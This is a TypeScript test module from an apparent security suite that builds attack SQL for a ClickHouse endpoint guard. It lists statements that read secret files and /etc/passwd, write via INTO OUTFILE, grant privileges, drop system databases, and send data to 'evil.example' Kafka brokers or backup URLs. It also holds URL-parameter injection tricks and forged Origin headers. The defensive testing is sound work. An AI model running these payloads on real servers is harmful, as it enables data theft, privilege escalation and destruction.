// Statement kinds the endpoint never runs, settings that name a path, a URL or
// a host, and tricks with the URL's `query`, `database` and `default_format`
// parameters. Part of the security suite's attempts (attempts.ts).
import type { Attempt, Disguise, Targets } from './attempts.ts';

const DB = 'chflow_scratch_sec';

function statements(t: Targets): Array<[string, string]> {
  const u = `http://${t.listener}/b`;
  return [
    ['SYSTEM', 'SYSTEM FLUSH LOGS'],
    ['SYSTEM RELOAD CONFIG', 'SYSTEM RELOAD CONFIG'],
    ['SYSTEM SHUTDOWN', 'SYSTEM SHUTDOWN'],
    ['SYSTEM DROP CACHE', 'SYSTEM DROP MARK CACHE'],
    ['SYSTEM STOP MERGES', `SYSTEM STOP MERGES ${DB}.t`],
    ['ATTACH TABLE FROM a path', `ATTACH TABLE ${DB}.t FROM '${t.secretPath}' (a String) ENGINE = MergeTree ORDER BY a`],
    ['ATTACH DATABASE', `ATTACH DATABASE ${DB}_a ENGINE = Atomic`],
    ['ATTACH PARTITION FROM', `ALTER TABLE ${DB}.t ATTACH PARTITION tuple() FROM system.one`],
    ['DETACH', `DETACH TABLE ${DB}.t`],
    ['DETACH DATABASE', 'DETACH DATABASE system'],
    ['SET a limit', 'SET max_execution_time = 1000'],
    ['SET a path', `SET format_schema = '${t.secretPath}'`],
    ['SET readonly', 'SET readonly = 0'],
    ['USE', 'USE default'],
    ['KILL QUERY', 'KILL QUERY WHERE 1'],
    ['KILL MUTATION', 'KILL MUTATION WHERE 1'],
    ['GRANT', 'GRANT ALL ON *.* TO default'],
    ['REVOKE', 'REVOKE SELECT ON system.* FROM default'],
    ['CREATE USER', "CREATE USER chflow_evil IDENTIFIED WITH plaintext_password BY 'x'"],
    ['CREATE ROLE', 'CREATE ROLE chflow_evil'],
    ['CREATE QUOTA', 'CREATE QUOTA chflow_evil FOR INTERVAL 1 hour NO LIMITS TO default'],
    ['CREATE SETTINGS PROFILE', 'CREATE SETTINGS PROFILE p SETTINGS max_execution_time = 1000 TO default'],
    ['CREATE ROW POLICY', `CREATE ROW POLICY p ON ${DB}.t USING 1 TO default`],
    ['ALTER USER', 'ALTER USER default SETTINGS max_memory_usage = 100000000000'],
    ['CREATE NAMED COLLECTION', `CREATE NAMED COLLECTION nc AS url = '${u}'`],
    ['CREATE FUNCTION', `CREATE FUNCTION chflow_read AS (p) -> file(p)`],
    ['DROP FUNCTION', 'DROP FUNCTION chflow_read'],
    ['BACKUP to a file', `BACKUP TABLE system.one TO File('${t.writePath}')`],
    ['BACKUP to a disk', `BACKUP DATABASE ${DB} TO Disk('default', 'b.zip')`],
    ['BACKUP to S3', `BACKUP TABLE system.one TO S3('${u}')`],
    ['RESTORE', `RESTORE TABLE system.one FROM File('${t.secretPath}')`],
    ['OPTIMIZE', `OPTIMIZE TABLE ${DB}.t FINAL`],
    ['ALTER ADD COLUMN', `ALTER TABLE ${DB}.t ADD COLUMN b String DEFAULT file('${t.secretPath}')`],
    ['ALTER MODIFY SETTING', `ALTER TABLE ${DB}.t MODIFY SETTING storage_policy = 'default'`],
    ['ALTER FREEZE', `ALTER TABLE ${DB}.t FREEZE`],
    ['ALTER FETCH PARTITION', `ALTER TABLE ${DB}.t FETCH PARTITION tuple() FROM '/clickhouse/tables/x'`],
    ['ALTER DELETE', `ALTER TABLE ${DB}.t DELETE WHERE 1`],
    ['RENAME', `RENAME TABLE ${DB}.t TO default.t`],
    ['RENAME DATABASE', `RENAME DATABASE ${DB} TO other`],
    ['TRUNCATE', `TRUNCATE TABLE ${DB}.t`],
    ['EXCHANGE', `EXCHANGE TABLES ${DB}.t AND ${DB}.u`],
    ['UNDROP', `UNDROP TABLE ${DB}.t`],
    ['DELETE FROM', `DELETE FROM ${DB}.t WHERE 1`],
    ['UPDATE', `UPDATE ${DB}.t SET a = '' WHERE 1`],
    ['CHECK TABLE', 'CHECK TABLE system.one'],
    ['MOVE', `MOVE USER default TO local_directory`],
    ['WATCH', `WATCH ${DB}.lv`],
    ['SHOW TABLES', 'SHOW TABLES FROM default'],
    ['SHOW PROCESSLIST', 'SHOW PROCESSLIST'],
    ['SHOW GRANTS', 'SHOW GRANTS'],
    ['SHOW ACCESS', 'SHOW ACCESS'],
    ['BEGIN TRANSACTION', 'BEGIN TRANSACTION'],
    ['CREATE LIVE VIEW', `CREATE LIVE VIEW ${DB}.lv AS SELECT 1`],
    ['CREATE WINDOW VIEW', `CREATE WINDOW VIEW ${DB}.wv TO ${DB}.t AS SELECT count() FROM ${DB}.s GROUP BY tumble(now(), INTERVAL 1 SECOND)`],
    ['a refreshable view', `CREATE MATERIALIZED VIEW ${DB}.rv REFRESH EVERY 1 SECOND ENGINE = MergeTree ORDER BY tuple() AS SELECT count() AS c FROM numbers_mt(1e8)`],
    ['a refreshable view into a table', `CREATE MATERIALIZED VIEW ${DB}.rv REFRESH AFTER 1 SECOND APPEND TO ${DB}.t AS SELECT 'x' AS a`],
    ['CREATE DICTIONARY', `CREATE DICTIONARY ${DB}.d (a UInt64) PRIMARY KEY a SOURCE(FILE(path '${t.secretPath}' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)`],
    ['INSERT INTO FUNCTION', `INSERT INTO FUNCTION file('${t.writePath}', 'CSV') SELECT 1`],
    ['INTO OUTFILE', `SELECT 1 INTO OUTFILE '${t.writePath}'`],
    ['INTO OUTFILE APPEND', `SELECT 1 INTO OUTFILE '${t.writePath}' APPEND`],
    ['INTO OUTFILE TRUNCATE in a subquery position', `SELECT * FROM (SELECT 1) INTO OUTFILE '${t.writePath}' TRUNCATE FORMAT CSV`],
    ['FROM INFILE', `INSERT INTO ${DB}.t FROM INFILE '${t.secretPath}' FORMAT LineAsString`],
    ['FROM INFILE compressed', `INSERT INTO ${DB}.t FROM INFILE '${t.secretPath}' COMPRESSION 'none' FORMAT LineAsString`],
    ['inline INSERT data', `INSERT INTO ${DB}.t FORMAT LineAsString secret`],
    ['INSERT VALUES', `INSERT INTO ${DB}.t VALUES ('x')`],
    ['writing to system', 'INSERT INTO system.one SELECT 0'],
    ['writing to default', 'INSERT INTO default.t SELECT 1'],
    ['a table outside the namespace', 'CREATE TABLE default.t (a String) ENGINE = MergeTree ORDER BY a'],
    ['a database outside the namespace', 'CREATE DATABASE chflow_evil'],
    ['the bare scratch prefix', 'CREATE DATABASE chflow_scratch_'],
    ['a look-alike prefix', 'CREATE DATABASE `chflow_scratch`'],
    ['dropping system', 'DROP DATABASE system'],
    ['dropping a system table', 'DROP TABLE system.query_log'],
    ['a view writing to default', `CREATE MATERIALIZED VIEW ${DB}.mv TO default.t AS SELECT 1 AS a`],
    ['a Kafka broker on another host', `CREATE TABLE ${DB}.k (a String) ENGINE = Kafka SETTINGS kafka_broker_list = 'evil.example:9092', kafka_topic_list = 't', kafka_group_name = 'g', kafka_format = 'JSONEachRow'`],
    ['a Kafka broker list with another host second', `CREATE TABLE ${DB}.k (a String) ENGINE = Kafka SETTINGS kafka_broker_list = '127.0.0.1:1,evil.example:9092', kafka_topic_list = 't', kafka_group_name = 'g', kafka_format = 'JSONEachRow'`],
    ['a Kafka broker list split by a space', `CREATE TABLE ${DB}.k (a String) ENGINE = Kafka SETTINGS kafka_broker_list = '127.0.0.1:1 evil.example:9092', kafka_topic_list = 't', kafka_group_name = 'g', kafka_format = 'JSONEachRow'`],
    ['a Kafka broker URL', `CREATE TABLE ${DB}.k (a String) ENGINE = Kafka SETTINGS kafka_broker_list = 'PLAINTEXT://evil.example:9092', kafka_topic_list = 't', kafka_group_name = 'g', kafka_format = 'JSONEachRow'`],
    ['a Kafka broker list from an expression', `CREATE TABLE ${DB}.k (a String) ENGINE = Kafka SETTINGS kafka_broker_list = concat('evil.example', ':9092'), kafka_topic_list = 't', kafka_group_name = 'g', kafka_format = 'JSONEachRow'`],
    ['Kafka engine arguments', `CREATE TABLE ${DB}.k (a String) ENGINE = Kafka('evil.example:9092', 't', 'g', 'JSONEachRow')`],
    ['a Kafka named collection', `CREATE TABLE ${DB}.k (a String) ENGINE = Kafka(nc)`],
  ];
}

export function statementAttempts(t: Targets, disguises: readonly Disguise[]): Attempt[] {
  return statements(t).flatMap(([label, sql]) => disguises.map((d) => ({ label: `${label} with ${d.name}`, sql: d.apply(sql) })));
}

/** Settings that name a file, a directory, a URL or a host, or raise a limit, with values aimed at the targets. */
function dangerousSettings(t: Targets): Array<[string, string]> {
  return [
    ['format_template_row', `'${t.secretPath}'`],
    ['format_template_resultset', `'${t.secretPath}'`],
    ['format_template_rows_between_delimiter', `'${t.secretPath}'`],
    ['output_format_schema', `'${t.writePath}'`],
    ['format_schema', `'${t.secretPath}:M'`],
    ['format_schema_source', `'file'`],
    ['format_schema_message_name', `'M'`],
    ['format_avro_schema_registry_url', `'http://${t.listener}'`],
    ['input_format_record_errors_file_path', `'${t.writePath}'`],
    ['schema_inference_hints', `'a String'`],
    ['storage_policy', `'default'`],
    ['disk', `disk(type = local, path = '${t.writePath}/')`],
    ['disk', `disk(type = web, endpoint = 'http://${t.listener}/')`],
    ['disk', `'default'`],
    ['table_disk', '1'],
    ['remote_fs_zero_copy_zookeeper_path', `'/x'`],
    ['default_table_engine', `'File'`],
    ['default_temporary_table_engine', `'File'`],
    ['user_files_path', `'/'`],
    ['format_schema_path', `'/'`],
    ['max_execution_time', '1000'],
    ['max_memory_usage', '100000000000'],
    ['max_result_bytes', '0'],
    ['max_rows_to_read', '0'],
    ['readonly', '0'],
    ['allow_ddl', '1'],
    ['allow_introspection_functions', '1'],
    ['additional_table_filters', `{'system.one': '1'}`],
    ['send_logs_level', `'trace'`],
    ['log_queries', '1'],
    ['workload', `'x'`],
    ['http_max_tries', '100'],
  ];
}

const KAFKA_SETTINGS = `kafka_broker_list = '${'127.0.0.1:1'}', kafka_topic_list = 't', kafka_group_name = 'g', kafka_format = 'Template'`;

export function settingAttempts(t: Targets, disguises: readonly Disguise[]): Attempt[] {
  const out: Attempt[] = [];
  for (const [name, value] of dangerousSettings(t)) {
    const forms = [name, '`' + name + '`', '"' + name + '"', name.toUpperCase()];
    for (const n of forms) {
      const s = `${n} = ${value}`;
      const sites: Array<[string, string]> = [
        ['a query', `SELECT 1 SETTINGS ${s}`],
        ['a query in parentheses', `SELECT 1 SETTINGS (${s})`],
        ['a FORMAT tail', `SELECT 1 FORMAT Template SETTINGS ${s}`],
        ['a subquery', `SELECT * FROM (SELECT 1 SETTINGS ${s})`],
        ['format()', `SELECT * FROM format(LineAsString, 'x') SETTINGS ${s}`],
        ['DESCRIBE format()', `DESCRIBE format(Template, 'x') SETTINGS ${s}`],
        ['EXPLAIN', `EXPLAIN SELECT 1 SETTINGS ${s}`],
        ['INSERT … SELECT', `INSERT INTO ${DB}.t SETTINGS ${s} SELECT 'x'`],
        ['a Kafka table', `CREATE TABLE ${DB}.k (a String) ENGINE = Kafka SETTINGS ${KAFKA_SETTINGS.replace('127.0.0.1:1', t.listener)}, ${s}`],
        ['a MergeTree table', `CREATE TABLE ${DB}.t (a String) ENGINE = MergeTree ORDER BY a SETTINGS ${s}`],
        ['a column', `CREATE TABLE ${DB}.t (a String SETTINGS (${s})) ENGINE = MergeTree ORDER BY a`],
        ['a database', `CREATE DATABASE ${DB}_s ENGINE = Atomic SETTINGS ${s}`],
        ['SET', `SET ${s}`],
      ];
      for (const [site, sql] of sites) out.push({ label: `${n} in ${site}`, sql });
    }
    for (const d of disguises) out.push({ label: `${name} with ${d.name}`, sql: d.apply(`SELECT 1 SETTINGS ${name} = ${value}`) });
  }
  for (const path of [t.secretPath, `../../..${t.secretPath}`, `..\\\\x`, `x/../../${t.secretPath}`]) {
    out.push({
      label: `kafka_schema = ${path}`,
      sql: `CREATE TABLE ${DB}.k (a String) ENGINE = Kafka SETTINGS kafka_broker_list = '${t.listener}', kafka_topic_list = 't', kafka_group_name = 'g', kafka_format = 'Protobuf', kafka_schema = '${path}:M'`,
    });
  }
  return out;
}

export function urlParameterAttempts(t: Targets): Attempt[] {
  const read = `file('${t.secretPath}', 'LineAsString')`;
  return [
    { label: '?query= starts, the body ends', sql: read, params: { query: 'SELECT * FROM' } },
    { label: '?query= holds the call, the body is empty', sql: '', params: { query: `SELECT * FROM ${read}` } },
    { label: '?query= and a second statement in the body', sql: `SELECT * FROM ${read}`, params: { query: 'SELECT 1;' } },
    { label: '?query= opens a comment the body closes', sql: `*/ * FROM ${read}`, params: { query: 'SELECT /*' } },
    { label: '?query= ends in a line comment', sql: `SELECT * FROM ${read}`, params: { query: 'SELECT 1 --' } },
    { label: '?query= opens a string', sql: `' , * FROM ${read}`, params: { query: "SELECT '" } },
    { label: '?query= with inline INSERT data in the body', sql: 'secret', params: { query: `INSERT INTO ${DB}.t FORMAT LineAsString` } },
    { label: '?query= splits a word', sql: `le('${t.secretPath}')`, params: { query: 'SELECT fi' } },
    { label: '?query= is INTO OUTFILE', sql: `INTO OUTFILE '${t.writePath}'`, params: { query: 'SELECT 1' } },
    { label: 'database=default', sql: 'SELECT * FROM one', params: { database: 'default' } },
    { label: 'database=system writes', sql: 'INSERT INTO one SELECT 0', params: { database: 'system' } },
    { label: 'database=information_schema', sql: 'SELECT 1', params: { database: 'information_schema' } },
    { label: 'database with a quote', sql: 'SELECT 1', params: { database: 'chflow_scratch_x`; SELECT 1' } },
    { label: 'default_format=Template', sql: 'SELECT 1', params: { default_format: 'Template' } },
    { label: 'default_format=Protobuf', sql: 'SELECT 1', params: { default_format: 'Protobuf' } },
    { label: 'default_format=CapnProto', sql: 'SELECT 1', params: { default_format: 'CapnProto' } },
    { label: 'default_format with a FORMAT clause', sql: 'SELECT 1', params: { default_format: 'JSON FORMAT Template' } },
    { label: 'a setting as a URL parameter', sql: 'SELECT 1 FORMAT Template', params: { format_template_row: t.secretPath } },
    { label: 'FORMAT Template', sql: 'SELECT 1 FORMAT Template' },
  ];
}

/** A function named without calling it: ClickHouse calls it in APPLY and as a higher-order argument. */
export function functionReferenceAttempts(t: Targets, disguises: readonly Disguise[]): Attempt[] {
  const paths = `['${t.secretPath}', '/etc/passwd']`;
  const from = `FROM (SELECT '${t.secretPath}' AS p UNION ALL SELECT '/etc/passwd')`;
  const out: Attempt[] = [];
  for (const fn of ['file', '`file`', '"file"', 'catboostEvaluate']) {
    const forms: Array<[string, string]> = [
      ['APPLY(f)', `SELECT * APPLY(${fn}) ${from}`],
      ['APPLY f', `SELECT * APPLY ${fn} ${from}`],
      ['COLUMNS() APPLY', `SELECT COLUMNS('p') APPLY(${fn}) ${from}`],
      ['arrayMap(f, …)', `SELECT arrayMap(${fn}, ${paths})`],
      ['arrayMap((f), …)', `SELECT arrayMap((${fn}), ${paths})`],
      ['arrayMap(f AS g, …)', `SELECT arrayMap(${fn} AS g, ${paths})`],
      ['arrayFilter(f, …)', `SELECT arrayFilter(${fn}, ${paths})`],
      ['arraySort(f, …)', `SELECT arraySort(${fn}, ${paths})`],
      ['arrayFirst(f, …)', `SELECT arrayFirst(${fn}, ${paths})`],
      ['mapApply(f, …)', `SELECT mapApply(${fn}, map('${t.secretPath}', 'x'))`],
      ['WITH f AS g', `WITH ${fn} AS g SELECT arrayMap(g, ${paths})`],
      ['a view', `CREATE VIEW ${DB}.v AS SELECT arrayMap(${fn}, ${paths}) AS a`],
      ['a column DEFAULT', `CREATE TABLE ${DB}.t2 (p String, a Array(String) DEFAULT arrayMap(${fn}, [p])) ENGINE = MergeTree ORDER BY p`],
    ];
    for (const [form, sql] of forms) {
      for (const d of disguises) out.push({ label: `${fn} in ${form} with ${d.name}`, sql: d.apply(sql) });
    }
  }
  return out;
}

/** Requests from anyone but the app's own page: other origins, other sites, no or a wrong token. */
export function callerAttempts(): Attempt[] {
  const sql = 'SELECT name FROM system.databases';
  const pages: Array<[string, Record<string, string>]> = [
    ['another origin', { Origin: 'http://evil.example' }],
    ['a sandboxed frame (Origin: null)', { Origin: 'null' }],
    ['another port on 127.0.0.1', { Origin: 'http://127.0.0.1:1' }],
    ['https on the same host', { Origin: 'https://127.0.0.1' }],
    ['a cross-site request', { 'Sec-Fetch-Site': 'cross-site' }],
    ['a same-site request', { 'Sec-Fetch-Site': 'same-site' }],
    ['no token', { 'X-Chflow-Token': '' }],
    ['a wrong token', { 'X-Chflow-Token': 'test-token-' }],
  ];
  return [
    ...pages.map(([label, headers]) => ({ label: `a query from ${label}`, sql, headers })),
    { label: 'the token in the URL instead of the header', sql, params: { 'x-chflow-token': 'test-token' }, headers: { 'X-Chflow-Token': '' } },
  ];
}
